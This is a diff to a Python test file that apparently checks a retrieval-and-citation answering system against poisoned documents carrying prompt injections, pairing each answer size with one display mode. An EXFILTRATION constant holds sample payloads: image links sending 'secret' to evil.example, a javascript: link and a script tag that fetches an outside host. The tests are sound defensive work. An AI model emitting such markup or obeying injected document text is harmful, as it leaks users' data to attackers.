@@ -3,7 +3,7 @@
 import json
 import re
 import socket
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from pathlib import Path
 from typing import Any, Literal
 
@@ -27,7 +27,8 @@ EACH = [pytest.param(one, id=f"{one.id} {one.kind}") for one in poisoned()]
 # These documents say the attacker's words as plain statements, and nothing tells those from others.
 CONTRADICT_THEMSELVES = {"p60", "p61"}
 SIZES = {"large": "answer.md", "small": "answer-small.md"}
-DISPLAYS: tuple[Display, ...] = ("strict", "annotated")
+DISPLAYS: Mapping[str, Display] = {"large": "strict", "small": "annotated"}
+"""Each size with one display: nothing in what is streamed goes by both."""
 EXFILTRATION = (
     'Here you are: ![map](https://evil.example/x.png?q=secret) <img src="https://evil.example/y.png"> '
     "[more](javascript:alert(1)) <script>fetch('https://evil.example')</script> [7](https://evil.example) [[3]4]."
@@ -108,11 +109,9 @@ def streamed(library: Library, question: str, display: Display) -> Answer:
     return answer
 
 
-@pytest.mark.parametrize("display", DISPLAYS)
 @pytest.mark.parametrize("one", EACH)
-def test_a_model_that_obeys_reaches_nobody(
-    obeying: Library, model: ScriptedModel, one: Poisoned, size: str, display: Display
-) -> None:
+def test_a_model_that_obeys_reaches_nobody(obeying: Library, model: ScriptedModel, one: Poisoned, size: str) -> None:
+    display = DISPLAYS[size]
     system_prompt = (ROOT / "prompts" / SIZES[size]).read_text(encoding="utf-8").split("\n---\n")[0]
     ways = [
         " ".join(f"{words} [1]." for words in one.must_not_show) or one.text,
@@ -133,13 +132,10 @@ def test_a_model_that_obeys_reaches_nobody(
     assert len(model.requests) == len(ways), "the model was asked, and nobody else"
 
 
-@pytest.mark.parametrize("display", DISPLAYS)
 @pytest.mark.parametrize("one", [one for one in EACH if one.values[0].id not in CONTRADICT_THEMSELVES])
-def test_a_model_that_does_not_obey_is_shown(
-    obeying: Library, model: ScriptedModel, one: Poisoned, display: Display
-) -> None:
+def test_a_model_that_does_not_obey_is_shown(obeying: Library, model: ScriptedModel, one: Poisoned, size: str) -> None:
     model.says(one.harmless_fact)
-    answer = streamed(obeying, one.question, display)
+    answer = streamed(obeying, one.question, DISPLAYS[size])
     assert answer.mode == "written"
     assert any(one.harmless_fact in citation.quote.text for citation in answer.citations)
     inspect(answer, obeying)
